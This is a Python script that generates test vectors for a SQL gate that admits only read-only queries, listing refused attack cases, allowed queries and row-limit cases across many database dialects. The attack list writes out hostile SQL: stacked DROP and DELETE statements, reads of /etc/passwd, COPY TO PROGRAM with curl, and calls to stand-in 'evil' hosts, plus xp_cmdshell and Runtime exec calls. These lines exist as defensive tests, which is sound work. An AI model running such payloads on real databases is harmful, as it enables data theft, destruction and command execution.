#!/usr/bin/env python3
"""Writes the shared test vectors (tests/vectors/*.jsonl) from the case lists below.

Each case states what a person expects (`check`: allowed, code, query_class, sql, ...). The full
verdict (`expect`) is then filled in by the Rust test in bless mode, which refuses to bless a
verdict that contradicts `check`:

    python3 tests/vectors/cases.py && SQLGATE_BLESS=1 cargo test -p sqlgate --test vectors

Every layer (Rust, Python, Node) runs the same files and compares `expect` exactly.
"""

import glob
import importlib.util
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))


def ok(text, name, dialect="postgres", policy=None, **check):
    """An allowed case; `sql=` in check is the expected regenerated SQL."""
    return case(text, name, dialect, policy, dict(allowed=True, query_class="select", **check))


def no(text, name, code, query_class=None, dialect="postgres", policy=None, **check):
    """A refused case with its error code and class (None: not asserted)."""
    c = dict(allowed=False, code=code, **check)
    if query_class:
        c["query_class"] = query_class
    return case(text, name, dialect, policy, c)


def case(sql, name, dialect, policy, check):
    row = {"name": name, "dialect": dialect, "sql": sql}
    # "engine": "runs": the approved SQL must execute without error on the dialect's engine
    # over the shared fixture (tests/engines); not part of the verdict.
    engine = check.pop("engine", None)
    if engine is not None:
        row["engine"] = engine
    if policy is not None:
        row["policy"] = dict(policy, dialect=dialect)
    row["check"] = check
    return row


# --- attacks: every bypass class, refused -----------------------------------------------------
attacks = [
    # stacked statements and transaction escapes
    no("SELECT 1; DROP TABLE users", "stacked drop", "multiple_statements", "ddl"),
    no("SELECT 1; COMMIT; DROP TABLE users", "commit escape", "multiple_statements", "ddl"),
    no("SELECT 1;\nDELETE FROM users", "stacked delete", "multiple_statements", "mutation_delete"),
    no("COMMIT; SELECT 1", "leading commit", "multiple_statements", "session"),
    no("ROLLBACK; SET TRANSACTION READ WRITE; DELETE FROM users", "rollback read write", "multiple_statements", "mutation_delete"),
    no("SELECT 1; -- trailing\nUPDATE users SET admin = true", "stacked after comment", "multiple_statements", "mutation_create"),
    no("SELECT 1 /* ; */; INSERT INTO t VALUES (1)", "semicolon in comment then real one", "multiple_statements", "mutation_create"),
    no("SHOW search_path; DROP TABLE users", "show swallows rest", "multiple_statements", "ddl"),
    no("SELECT 1; SELECT 2", "two selects", "multiple_statements", "select"),
    no("BEGIN; DELETE FROM users; COMMIT", "transaction block", "multiple_statements", "mutation_delete"),
    no("END; DROP TABLE t", "end then drop", "multiple_statements", "ddl"),
    # data-modifying CTEs at any depth
    no("WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d", "delete cte", "data_modifying_cte", "mutation_delete"),
    no("WITH i AS (INSERT INTO t VALUES (1) RETURNING id) SELECT id FROM i", "insert cte", "data_modifying_cte", "mutation_create"),
    no("WITH u AS (UPDATE t SET a = 1 RETURNING a) SELECT a FROM u", "update cte", "data_modifying_cte", "mutation_create"),
    no("WITH a AS (SELECT 1), b AS (DELETE FROM t RETURNING *) SELECT * FROM a", "second cte deletes", "data_modifying_cte", "mutation_delete"),
    no("SELECT * FROM (WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d) s", "cte in derived table", "data_modifying_cte", "mutation_delete"),
    no("SELECT (WITH d AS (DELETE FROM t RETURNING 1) SELECT 1 FROM d)", "cte in scalar subquery", "data_modifying_cte", "mutation_delete"),
    no("SELECT 1 WHERE EXISTS (WITH d AS (DELETE FROM t RETURNING 1) SELECT 1 FROM d)", "cte in exists", "data_modifying_cte", "mutation_delete"),
    no("WITH x AS (WITH y AS (DELETE FROM t RETURNING 1) SELECT * FROM y) SELECT * FROM x", "nested with", "data_modifying_cte", "mutation_delete"),
    no("SELECT * FROM t UNION ALL (WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d)", "cte in union arm", "data_modifying_cte", "mutation_delete"),
    no("WITH m AS (MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE RETURNING t.*) SELECT * FROM m", "merge in cte", None, None),
    # SELECT INTO
    no("SELECT * INTO backup FROM users", "select into", "select_into", "ddl"),
    no("SELECT a INTO TEMP t2 FROM t", "select into temp", "select_into", "ddl"),
    no("SELECT * FROM (SELECT 1) s UNION SELECT 2 INTO x", "into on union arm", None, "ddl"),
    no("SELECT * INTO #tmp FROM users", "mssql into temp table", "select_into", "ddl", dialect="mssql"),
    no("SELECT * INTO @v FROM users", "mysql into variable", None, None, dialect="mysql"),
    no("SELECT * FROM users INTO OUTFILE '/tmp/x'", "mysql into outfile", "select_into", "ddl", dialect="mysql"),
    no("SELECT * FROM users INTO DUMPFILE '/tmp/x'", "mysql into dumpfile", "select_into", "ddl", dialect="mysql"),
    # locks
    no("SELECT * FROM t FOR UPDATE", "for update", "locking_clause", "select"),
    no("SELECT * FROM t FOR SHARE", "for share", "locking_clause", "select"),
    no("SELECT * FROM t FOR NO KEY UPDATE SKIP LOCKED", "for no key update", None, None),
    no("SELECT * FROM (SELECT * FROM t FOR UPDATE) s", "lock in subquery", "locking_clause", "select"),
    no("SELECT * FROM t WHERE a IN (SELECT a FROM u FOR SHARE)", "lock in where subquery", "locking_clause", "select"),
    no("WITH l AS (SELECT * FROM t FOR UPDATE) SELECT * FROM l", "lock in cte", "locking_clause", "select"),
    no("SELECT * FROM t LOCK IN SHARE MODE", "mysql lock in share mode", "locking_clause", "select", dialect="mysql"),
    no("SELECT * FROM t FOR UPDATE", "mysql for update", "locking_clause", "select", dialect="mysql"),
    no("SELECT * FROM users WITH (UPDLOCK)", "mssql updlock hint", "locking_clause", "select", dialect="mssql"),
    no("SELECT * FROM users WITH (TABLOCKX, HOLDLOCK)", "mssql tablockx hint", "locking_clause", "select", dialect="mssql"),
    no("SELECT * FROM (SELECT * FROM users WITH (XLOCK)) s", "mssql hint in subquery", "locking_clause", "select", dialect="mssql"),
    # EXPLAIN
    no("EXPLAIN ANALYZE DELETE FROM users", "explain analyze delete", "explain_analyze", "mutation_delete"),
    no("EXPLAIN (ANALYZE) DELETE FROM users", "explain options analyze", "explain_analyze", "mutation_delete"),
    no("EXPLAIN (ANALYZE true, BUFFERS) UPDATE t SET a = 1", "explain analyze true", "explain_analyze", "mutation_create"),
    no("EXPLAIN ANALYZE SELECT 1", "explain analyze select", "explain_analyze", "select"),
    no("EXPLAIN SELECT 1", "explain not allowed by default", "statement_not_allowed", "select"),
    no("EXPLAIN DELETE FROM t", "explain delete", "statement_not_allowed", "mutation_delete", policy={"allow_explain": True}),
    # functions in every clause and in FROM
    no("SELECT * FROM pg_read_file('/etc/passwd')", "pg_read_file in from", "function_not_allowed", "select"),
    no("SELECT pg_read_file('/etc/passwd')", "pg_read_file in projection", "function_not_allowed"),
    no("SELECT pg_sleep(10)", "pg_sleep", "function_not_allowed"),
    no("SELECT pg_catalog.pg_sleep(10)", "qualified pg_sleep", "function_not_allowed"),
    no('SELECT "pg_sleep"(10)', "quoted pg_sleep", "function_not_allowed"),
    no("SELECT PG_SLEEP(10)", "upper pg_sleep", "function_not_allowed"),
    no("SELECT 1 FROM t WHERE pg_sleep(1) IS NULL", "function in where", "function_not_allowed"),
    no("SELECT a FROM t GROUP BY a HAVING count(pg_sleep(1)) > 0", "function in having", "function_not_allowed"),
    no("SELECT a FROM t ORDER BY pg_sleep(1)", "function in order by", "function_not_allowed"),
    no("SELECT a FROM t GROUP BY pg_sleep(1)", "function in group by", "function_not_allowed"),
    no("SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM t", "function in filter", "function_not_allowed"),
    no("SELECT string_agg(a, ',' ORDER BY pg_sleep(1)) FROM t", "function in aggregate order by", "function_not_allowed"),
    no("SELECT rank() OVER (PARTITION BY pg_sleep(1)) FROM t", "function in window partition", "function_not_allowed"),
    no("SELECT rank() OVER w FROM t WINDOW w AS (ORDER BY lo_import('/etc/passwd'))", "function in named window", "function_not_allowed"),
    no("SELECT CASE WHEN a > 0 THEN pg_sleep(1) END FROM t", "function in case", "function_not_allowed"),
    no("SELECT * FROM t JOIN u ON pg_sleep(1) IS NULL", "function in join on", "function_not_allowed"),
    no("SELECT * FROM t, LATERAL (SELECT pg_read_file('x')) s", "function in lateral", "function_not_allowed"),
    no("SELECT * FROM ROWS FROM (generate_series(1, 3), pg_ls_dir('/'))", "rows from", None, None),
    no("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", "dblink", "function_not_allowed"),
    no("SELECT current_setting('data_directory')", "current_setting", "function_not_allowed"),
    no("SELECT set_config('statement_timeout', '0', false)", "set_config", "function_not_allowed"),
    no("SELECT nextval('users_id_seq')", "nextval", "function_not_allowed"),
    no("SELECT txid_current()", "txid_current", "function_not_allowed"),
    no("SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')", "query_to_xml", "function_not_allowed"),
    no("SELECT pg_terminate_backend(123)", "pg_terminate_backend", "function_not_allowed"),
    no("SELECT lo_export(1, '/tmp/x')", "lo_export", "function_not_allowed"),
    no("SELECT 1 LIMIT (SELECT pg_sleep(1))::int", "function in limit", None, None),
    no("SELECT * FROM t WHERE a = ANY (SELECT pg_read_binary_file('x'))", "function in any subquery", "function_not_allowed"),
    no("SELECT (SELECT pg_advisory_lock(1))", "advisory lock", "function_not_allowed"),
    no("SELECT my_schema.my_func(1)", "unknown user function", "function_not_allowed"),
    # statements that are not queries
    no("DELETE FROM users", "delete", "statement_not_allowed", "mutation_delete"),
    no("UPDATE users SET admin = true", "update", "statement_not_allowed", "mutation_create"),
    no("INSERT INTO users VALUES (1)", "insert", "statement_not_allowed", "mutation_create"),
    no("INSERT INTO t SELECT * FROM u", "insert select", "statement_not_allowed", "mutation_create"),
    no("MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE", "merge delete", "statement_not_allowed", "mutation_delete"),
    no("MERGE INTO t USING s ON t.a = s.a WHEN NOT MATCHED THEN INSERT VALUES (s.a)", "merge insert", "statement_not_allowed", "mutation_create"),
    no("TRUNCATE users", "truncate", "statement_not_allowed", "mutation_delete"),
    no("DROP TABLE users", "drop", "statement_not_allowed", "ddl"),
    no("CREATE TABLE x (a int)", "create", "statement_not_allowed", "ddl"),
    no("CREATE TABLE x AS SELECT * FROM users", "create table as", "statement_not_allowed", "ddl"),
    no("ALTER TABLE users ADD COLUMN x int", "alter", "statement_not_allowed", "ddl"),
    no("COMMENT ON TABLE users IS 'x'", "comment on", "statement_not_allowed", "ddl"),
    no("CREATE VIEW v AS SELECT 1", "create view", "statement_not_allowed", "ddl"),
    no("COPY users TO '/tmp/users.csv'", "copy to file", "statement_not_allowed", "admin"),
    no("COPY users TO PROGRAM 'curl evil'", "copy to program", "statement_not_allowed", "admin"),
    no("COPY users FROM '/tmp/x'", "copy from", "statement_not_allowed", "mutation_create"),
    no("COPY (SELECT * FROM users) TO STDOUT", "copy query to stdout", "statement_not_allowed", "admin"),
    no("DO $$ BEGIN DELETE FROM users; END $$", "do block", None, None),
    no("CALL cleanup()", "call", "statement_not_allowed", "admin"),
    no("SET statement_timeout = 0", "set", "statement_not_allowed", "session"),
    no("SET ROLE postgres", "set role", "statement_not_allowed", "session"),
    no("RESET ALL", "reset", "statement_not_allowed", "session"),
    no("SHOW ALL", "show", "statement_not_allowed", "session"),
    no("PREPARE p AS DELETE FROM users", "prepare delete", "statement_not_allowed", "mutation_delete"),
    no("PREPARE p AS SELECT 1", "prepare select", "statement_not_allowed", "session"),
    no("EXECUTE p", "execute", "statement_not_allowed", "admin"),
    no("DEALLOCATE p", "deallocate", "statement_not_allowed", "session"),
    no("BEGIN", "begin", "statement_not_allowed", "session"),
    no("START TRANSACTION READ WRITE", "start transaction", "statement_not_allowed", "session"),
    no("COMMIT", "commit", "statement_not_allowed", "session"),
    no("SAVEPOINT s", "savepoint", "statement_not_allowed", "session"),
    no("LISTEN ch", "listen", "statement_not_allowed", "session"),
    no("NOTIFY ch, 'x'", "notify", "statement_not_allowed", "admin"),
    no("DISCARD ALL", "discard", "statement_not_allowed", "session"),
    no("DECLARE c CURSOR FOR SELECT 1", "declare cursor", "statement_not_allowed", "session"),
    no("FETCH ALL FROM c", "fetch", "statement_not_allowed", "session"),
    no("CLOSE c", "close", "statement_not_allowed", "session"),
    no("GRANT ALL ON users TO public", "grant", "statement_not_allowed", "admin"),
    no("REVOKE ALL ON users FROM public", "revoke", "statement_not_allowed", "admin"),
    no("CREATE ROLE evil SUPERUSER", "create role", "statement_not_allowed", "admin"),
    no("ALTER ROLE app SUPERUSER", "alter role", "statement_not_allowed", "admin"),
    no("DROP ROLE app", "drop role", "statement_not_allowed", "admin"),
    no("VACUUM FULL users", "vacuum", "statement_not_allowed", "admin"),
    no("ANALYZE users", "analyze", "statement_not_allowed", "admin"),
    no("LOCK TABLE users IN ACCESS EXCLUSIVE MODE", "lock table", "statement_not_allowed", "admin"),
    no("CREATE EXTENSION dblink", "create extension", "statement_not_allowed", "admin"),
    no("ALTER SYSTEM SET fsync = off", "alter system", None, None),
    no("LOAD DATA INFILE '/etc/passwd' INTO TABLE t", "mysql load data", None, None, dialect="mysql"),
    no("REPLACE INTO t VALUES (1)", "mysql replace", "statement_not_allowed", "mutation_delete", dialect="mysql"),
    no("KILL 42", "mysql kill", "statement_not_allowed", "admin", dialect="mysql"),
    no("USE other_db", "mysql use", "statement_not_allowed", "session", dialect="mysql"),
    no("PRAGMA writable_schema = 1", "sqlite pragma", "statement_not_allowed", "admin", dialect="sqlite"),
    no("ATTACH DATABASE '/tmp/x.db' AS x", "sqlite attach", "statement_not_allowed", "admin", dialect="sqlite"),
    no("INSTALL httpfs", "duckdb install", "statement_not_allowed", "admin", dialect="duckdb"),
    no("LOAD httpfs", "duckdb load", "statement_not_allowed", "admin", dialect="duckdb"),
    no("ATTACH 'evil.db' AS e", "duckdb attach", "statement_not_allowed", "admin", dialect="duckdb"),
    no("EXEC xp_cmdshell 'dir'", "mssql exec", "statement_not_allowed", "admin", dialect="mssql"),
    # MySQL executable comments and other comment tricks
    # In the mysql dialect the tokenizer reads /*! ... */ as MySQL does: as SQL.
    no("SELECT 1 /*! ; DROP TABLE users */", "mysql executable comment", "multiple_statements", "ddl", dialect="mysql"),
    no("SELECT 1 /*!50000 , (SELECT LOAD_FILE('/etc/passwd')) */", "versioned executable comment", "function_not_allowed", dialect="mysql"),
    no("SELECT /*! SLEEP(5) */ 1", "executable comment in postgres", "unsupported_syntax"),
    # quoting tricks
    no("SELECT 'a'; DROP TABLE users; --'", "quote then stacked", "multiple_statements", "ddl"),
    no("SELECT $$x$$; DROP TABLE users", "dollar quote then stacked", "multiple_statements", "ddl"),
    no("SELECT E'\\''; DROP TABLE users; --'", "e-string escape then stacked", "multiple_statements", "ddl"),
    # One string to MySQL by default, but a string and a stacked DROP with NO_BACKSLASH_ESCAPES.
    no("SELECT 'a\\'; DROP TABLE users; -- '", "mysql backslash escape is one string", "unsupported_syntax",
       "unknown", dialect="mysql"),
    # One string in PostgreSQL today, but stacked SQL if the server has standard_conforming_strings off.
    no("SELECT 'a\\''; DROP TABLE users; -- '", "postgres backslash before quote", "unsupported_syntax", "unknown"),
    # invisible characters
    no("SELECT\u200b1; DROP TABLE users", "zero width space", "invalid_character"),
    no("SELECT 1 \u202e; DROP", "bidi override", "invalid_character"),
    no("SELECT\u00a01", "no-break space", "invalid_character"),
    no("\ufeffSELECT 1", "byte order mark", "invalid_character"),
    no("SELECT 1 -- \u2066hidden\u2069\n", "bidi in comment", "invalid_character"),
    no("SELECT 1\u0000; DROP TABLE users", "nul byte", "invalid_character", "unknown"),
    no("SELECT \U000e0041 1", "tag character", "invalid_character"),
    # system catalogs
    no("SELECT * FROM pg_catalog.pg_authid", "pg_authid", "system_catalog"),
    no("SELECT usename, passwd FROM pg_shadow", "pg_shadow", "system_catalog"),
    no("SELECT * FROM information_schema.columns", "information_schema", "system_catalog"),
    no("SELECT * FROM \"pg_catalog\".\"pg_class\"", "quoted catalog", "system_catalog"),
    no("SELECT * FROM t WHERE a IN (SELECT oid FROM pg_class)", "catalog in subquery", "system_catalog"),
    no("SELECT * FROM sqlite_master", "sqlite_master", "system_catalog", dialect="sqlite"),
    no("SELECT * FROM mysql.user", "mysql.user", "system_catalog", dialect="mysql"),
    no("SELECT * FROM sys.objects", "mssql sys", "system_catalog", dialect="mssql"),
    no("SELECT * FROM system.tables", "clickhouse system", "system_catalog", dialect="clickhouse"),
    # per-dialect file, network and process functions
    no("SELECT * FROM '/etc/passwd'", "duckdb file as table", "table_not_allowed", dialect="duckdb"),
    no("SELECT * FROM read_csv('/etc/passwd')", "duckdb read_csv", "function_not_allowed", dialect="duckdb"),
    no("SELECT * FROM read_text('/etc/passwd')", "duckdb read_text", "function_not_allowed", dialect="duckdb"),
    no("SELECT * FROM read_parquet('s3://b/x.parquet')", "duckdb read_parquet", "function_not_allowed", dialect="duckdb"),
    no("SELECT getenv('HOME')", "duckdb getenv", "function_not_allowed", dialect="duckdb"),
    no("SELECT * FROM glob('/*')", "duckdb glob", "function_not_allowed", dialect="duckdb"),
    no("SELECT LOAD_FILE('/etc/passwd')", "mysql load_file", "function_not_allowed", dialect="mysql"),
    no("SELECT SLEEP(10)", "mysql sleep", "function_not_allowed", dialect="mysql"),
    no("SELECT BENCHMARK(100000000, MD5('a'))", "mysql benchmark", "function_not_allowed", dialect="mysql"),
    no("SELECT GET_LOCK('x', 10)", "mysql get_lock", "function_not_allowed", dialect="mysql"),
    no("SELECT sys_exec('id')", "mysql udf sys_exec", "function_not_allowed", dialect="mysql"),
    no("SELECT load_extension('/tmp/evil.so')", "sqlite load_extension", "function_not_allowed", dialect="sqlite"),
    no("SELECT readfile('/etc/passwd')", "sqlite readfile", "function_not_allowed", dialect="sqlite"),
    no("SELECT writefile('/tmp/x', 'y')", "sqlite writefile", "function_not_allowed", dialect="sqlite"),
    no("SELECT fts3_tokenizer('simple')", "sqlite fts3_tokenizer", "function_not_allowed", dialect="sqlite"),
    no("SELECT * FROM OPENROWSET('SQLNCLI', 'Server=evil;', 'SELECT 1')", "mssql openrowset", "function_not_allowed", dialect="mssql"),
    no("SELECT * FROM OPENQUERY(evil, 'SELECT 1')", "mssql openquery", "function_not_allowed", dialect="mssql"),
    no("SELECT xp_dirtree('c:\\')", "mssql xp_", "function_not_allowed", dialect="mssql"),
    no("SELECT SYSTEM$WHITELIST()", "snowflake system$", "function_not_allowed", dialect="snowflake"),
    no("SELECT * FROM EXTERNAL_QUERY('conn', 'SELECT 1')", "bigquery external_query", "function_not_allowed", dialect="bigquery"),
    no("SELECT * FROM file('/etc/passwd', 'CSV')", "clickhouse file", "function_not_allowed", dialect="clickhouse"),
    no("SELECT * FROM url('http://evil/x', 'CSV')", "clickhouse url", "function_not_allowed", dialect="clickhouse"),
    no("SELECT reflect('java.lang.Runtime', 'exec', 'id')", "hive reflect", "function_not_allowed", dialect="hive"),
    # limits that cannot be capped
    no("SELECT * FROM t LIMIT $1", "parameter limit", "limit_not_literal", "select"),
    no("SELECT * FROM t LIMIT 10 + 5", "expression limit", "limit_not_literal"),
    no("SELECT * FROM t FETCH FIRST 10 ROWS WITH TIES", "with ties", "limit_not_literal"),
    no("SELECT TOP 10 PERCENT * FROM t", "top percent", "limit_not_literal", dialect="mssql"),
    no("SELECT TOP 5 WITH TIES * FROM t ORDER BY a", "top with ties", "limit_not_literal", dialect="mssql"),
    no("SELECT * FROM t LIMIT -1", "negative limit", "limit_not_literal"),
    # PostgreSQL has no TOP: it would read `TOP (5) a` as a call to top(5) and cap nothing.
    no("SELECT TOP (5) a FROM t", "postgres top", "unsupported_syntax", "select"),
    no("SELECT TOP 5 a FROM t", "sqlite top", "unsupported_syntax", "select", dialect="sqlite"),
    ok("SELECT TOP 5 a FROM t", "snowflake top kept", dialect="snowflake", limit={"action": "kept", "value": 5, "original": 5}),
    # size, depth, parse, empty
    no("", "empty string", "empty", "unknown"),
    no("   \n\t ", "whitespace only", "empty", "unknown"),
    no("-- just a comment", "comment only", "empty", "unknown"),
    no("/* nothing */ ;", "comment and semicolon", "empty", "unknown"),
    no("SELECT " + "(" * 100 + "1" + ")" * 100, "deep parentheses", "too_deep", "select"),
    no("SELECT 1", "over max_sql_bytes", "too_large", "unknown", policy={"max_sql_bytes": 4}),
    no("SELECT a, b FROM t", "over max_tokens", "too_large", "unknown", policy={"max_tokens": 5}),
    no("SELECT a /* x */ /* y */ FROM t", "comments count as tokens", "too_large", "unknown", policy={"max_tokens": 5}),
    ok("SELECT a \n\t FROM   t", "whitespace does not count as tokens", policy={"max_tokens": 4, "max_rows": None}),
    no("SELEC 1", "typo", "parse_error", "unknown"),
    no("SELECT 'unterminated", "unterminated string", "parse_error", "unknown"),
    no("SELECT * FROM t WHERE", "incomplete", "parse_error", "select"),
    # unsupported constructs are refused, not skipped
    no("SELECT * FROM t PIVOT (sum(a) FOR b IN ('x', 'y'))", "pivot", "unsupported_syntax", dialect="snowflake"),
    no("SELECT * FROM t MATCH_RECOGNIZE (PARTITION BY a ORDER BY b PATTERN (x) DEFINE x AS a > 0)", "match_recognize", "unsupported_syntax", dialect="snowflake"),
    no("SELECT /*+ SET_VAR(sql_mode='') */ 1", "mysql optimizer hint", None, None, dialect="mysql"),
]

# --- queries that must stay allowed ----------------------------------------------------------
allowed = [
    ok("SELECT name FROM artist ORDER BY name", "design example", sql="SELECT name FROM artist ORDER BY name LIMIT 1000"),
    ok("select * from album where artist_id = 1", "lower case", tables=["album"]),
    ok("SELECT a.title, b.name FROM album a JOIN artist b ON a.artist_id = b.artist_id", "join"),
    ok("SELECT count(*) FROM track", "count star", functions=["count"]),
    ok("SELECT genre_id, avg(milliseconds) FROM track GROUP BY genre_id HAVING avg(milliseconds) > 1000", "group by having"),
    ok("WITH t AS (SELECT 1 AS x) SELECT x FROM t", "plain cte", tables=[]),
    ok("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT n FROM r", "recursive cte"),
    ok("SELECT * FROM (SELECT a FROM t) s", "derived table"),
    ok("SELECT a FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.a = t.a)", "correlated exists"),
    ok("SELECT a FROM t UNION SELECT b FROM u", "union"),
    ok("SELECT a FROM t INTERSECT SELECT b FROM u EXCEPT SELECT c FROM v", "intersect except"),
    ok("SELECT rank() OVER (PARTITION BY a ORDER BY b) FROM t", "window"),
    ok("SELECT * FROM t, LATERAL (SELECT * FROM u WHERE u.a = t.a) s", "lateral"),
    ok("SELECT * FROM generate_series(1, 10) AS g(n)", "table function", functions=["generate_series"]),
    ok("SELECT * FROM unnest(ARRAY[1, 2, 3])", "unnest"),
    ok("SELECT 'it''s', E'a\\nb', $$dollar$$ FROM t", "string forms", sql="SELECT 'it''s', E'a\\nb', $$dollar$$ FROM t LIMIT 1000"),
    ok("SELECT now(), current_date, random(), gen_random_uuid()", "harmless volatile functions"),
    ok("SELECT upper(name), length(name), coalesce(a, 0) FROM t", "string functions"),
    ok("SELECT jsonb_build_object('a', 1) -> 'a'", "jsonb"),
    ok("SELECT count(*) FILTER (WHERE a > 0) FROM t", "filter"),
    ok("SELECT string_agg(a, ',' ORDER BY a) FROM t", "aggregate order by"),
    ok("SELECT DISTINCT ON (a) a, b FROM t ORDER BY a, b", "distinct on"),
    ok("SELECT a::text, CAST(b AS int) FROM t", "casts"),
    ok("SELECT * FROM t WHERE a BETWEEN 1 AND 10 AND b LIKE 'x%' AND c IN (1, 2)", "predicates"),
    ok("SELECT * FROM t WHERE a = ';'", "semicolon in string"),
    ok("SELECT 1;", "trailing semicolon", sql="SELECT 1 LIMIT 1000"),
    ok("SELECT 1; -- done\n", "trailing comment"),
    ok("SELECT 1 /* comment */", "block comment", sql="SELECT 1 LIMIT 1000"),
    ok("SELECT 1 /* nested /* comment */ still */", "nested comment"),
    ok("VALUES (1, 'a'), (2, 'b')", "values"),
    ok("SELECT * FROM t TABLESAMPLE SYSTEM (10)", "tablesample"),
    ok("EXPLAIN SELECT * FROM t", "explain allowed by policy", policy={"allow_explain": True}),
    ok("SELECT * FROM pg_catalog.pg_class", "catalog allowed by policy", policy={"allow_system_catalogs": True}),
    ok("WITH pg_class AS (SELECT 1 AS x) SELECT x FROM pg_class", "cte shadows a catalog name"),
    ok("SELECT pg_sleep(0)", "function allowed by policy", policy={"functions": {"allow": ["pg_sleep"]}}),
    ok("SELECT my_schema.my_func(1)", "qualified user function allowed", policy={"functions": {"allow": ["my_schema.my_func"]}}),
    ok("SELECT `name` FROM `artist` WHERE `id` = 1", "mysql backticks", dialect="mysql"),
    ok("SELECT 'a''b' FROM t", "mysql doubled quote", dialect="mysql", sql="SELECT 'a''b' FROM t LIMIT 1000"),
    ok("SELECT \"Name\" FROM \"Artist\" WHERE \"Name\" = \"AC/DC\"", "sqlite double quotes", dialect="sqlite"),
    ok("SELECT name FROM artist", "sqlite", dialect="sqlite"),
    ok("SELECT iif(a > 0, 'y', 'n'), strftime('%Y', d) FROM t", "sqlite functions", dialect="sqlite"),
    ok("SELECT name FROM artist", "duckdb", dialect="duckdb"),
    ok("SELECT name FROM artist", "snowflake", dialect="snowflake", tables=["ARTIST"]),
    ok("SELECT name FROM artist", "bigquery", dialect="bigquery"),
    ok("SELECT name FROM artist", "redshift", dialect="redshift"),
    ok("SELECT name FROM artist", "clickhouse", dialect="clickhouse"),
    ok("SELECT name FROM artist", "databricks", dialect="databricks"),
    ok("SELECT name FROM artist", "hive", dialect="hive"),
    ok("SELECT name FROM artist", "ansi", dialect="ansi"),
    ok("SELECT name FROM artist", "generic", dialect="generic"),
    ok("SELECT name FROM artist", "mssql", dialect="mssql", sql="SELECT TOP 1000 name FROM artist"),
    ok("SELECT name FROM artist", "mysql", dialect="mysql"),
    ok("SELECT name FROM artist", "no cap", policy={"max_rows": None}, sql="SELECT name FROM artist",
       limit={"action": "none", "value": None, "original": None}),
]

# --- every LIMIT form -------------------------------------------------------------------------
LIMIT_DIALECTS = ["postgres", "mysql", "sqlite", "duckdb", "snowflake", "bigquery", "redshift",
                  "clickhouse", "databricks", "hive", "ansi", "generic"]
limits = []
for d in LIMIT_DIALECTS:
    limits += [
        ok("SELECT a FROM t", f"{d} limit injected", dialect=d,
           limit={"action": "injected", "value": 100, "original": None}, policy={"max_rows": 100}),
        ok("SELECT a FROM t LIMIT 5000", f"{d} limit clamped", dialect=d,
           limit={"action": "clamped", "value": 100, "original": 5000}, policy={"max_rows": 100}),
        ok("SELECT a FROM t LIMIT 7", f"{d} limit kept", dialect=d,
           limit={"action": "kept", "value": 7, "original": 7}, policy={"max_rows": 100}),
        ok("SELECT a FROM t UNION ALL SELECT b FROM u", f"{d} union capped", dialect=d,
           limit={"action": "injected", "value": 100, "original": None}, policy={"max_rows": 100}),
    ]
limits += [
    ok("SELECT a FROM t LIMIT ALL", "limit all replaced", limit={"action": "injected", "value": 1000, "original": None},
       sql="SELECT a FROM t LIMIT 1000"),
    ok("SELECT a FROM t LIMIT 5000 OFFSET 20", "offset kept", sql="SELECT a FROM t LIMIT 1000 OFFSET 20"),
    ok("SELECT a FROM t OFFSET 20", "offset only", sql="SELECT a FROM t LIMIT 1000 OFFSET 20"),
    ok("SELECT a FROM t FETCH FIRST 5000 ROWS ONLY", "fetch clamped", limit={"action": "clamped", "value": 1000, "original": 5000}),
    ok("SELECT a FROM t FETCH FIRST 5 ROWS ONLY", "fetch kept", limit={"action": "kept", "value": 5, "original": 5}),
    ok("SELECT a FROM t FETCH NEXT ROW ONLY", "fetch one row", limit={"action": "kept", "value": 1, "original": 1}),
    ok("SELECT a FROM t ORDER BY a OFFSET 10 ROWS FETCH NEXT 5000 ROWS ONLY", "offset fetch clamped",
       limit={"action": "clamped", "value": 1000, "original": 5000}),
    # PostgreSQL refuses a second LIMIT outside the parentheses: the cap goes inside.
    ok("(SELECT a FROM t LIMIT 5000)", "parenthesised query", limit={"action": "clamped", "value": 1000, "original": 5000},
       sql="(SELECT a FROM t LIMIT 1000)"),
    ok("(SELECT a FROM t) ORDER BY a", "parenthesised query with outer order by", sql="(SELECT a FROM t) ORDER BY a LIMIT 1000"),
    ok("SELECT a FROM (SELECT a FROM t LIMIT 5000) s", "inner limit untouched",
       sql="SELECT a FROM (SELECT a FROM t LIMIT 5000) s LIMIT 1000"),
    ok("SELECT a FROM t LIMIT 5, 5000", "mysql offset comma limit", dialect="mysql",
       limit={"action": "clamped", "value": 1000, "original": 5000}),
    ok("SELECT TOP 5000 a FROM t", "mssql top clamped", dialect="mssql", limit={"action": "clamped", "value": 1000, "original": 5000}),
    ok("SELECT TOP (5) a FROM t", "mssql top kept", dialect="mssql", limit={"action": "kept", "value": 5, "original": 5}),
    ok("SELECT a FROM t ORDER BY a", "mssql order by gets fetch", dialect="mssql",
       sql="SELECT a FROM t ORDER BY a OFFSET 0 ROWS FETCH FIRST 1000 ROWS ONLY"),
    ok("SELECT a FROM t UNION SELECT b FROM u", "mssql union gets fetch", dialect="mssql"),
    ok("SELECT a FROM t ORDER BY a OFFSET 5 ROWS FETCH NEXT 5000 ROWS ONLY", "mssql fetch clamped", dialect="mssql",
       limit={"action": "clamped", "value": 1000, "original": 5000}),
]

files = {"attacks.jsonl": attacks, "allowed.jsonl": allowed, "limits.jsonl": limits}

# Topic files: tests/vectors/cases_<topic>.py each define `cases(ok, no)` returning
# {"<topic>.jsonl": [rows]}; one file per topic keeps the lists readable.
for module_path in sorted(glob.glob(os.path.join(HERE, "cases_*.py"))):
    spec = importlib.util.spec_from_file_location(os.path.basename(module_path)[:-3], module_path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    for name, rows in module.cases(ok, no).items():
        assert name not in files, f"{module_path}: {name} is written twice"
        files[name] = rows
for name, rows in files.items():
    path = os.path.join(HERE, name)
    old = {}
    if os.path.exists(path):
        with open(path) as f:
            for line in f:
                r = json.loads(line)
                old[(r["name"], r["dialect"])] = r.get("expect")
    seen = set()
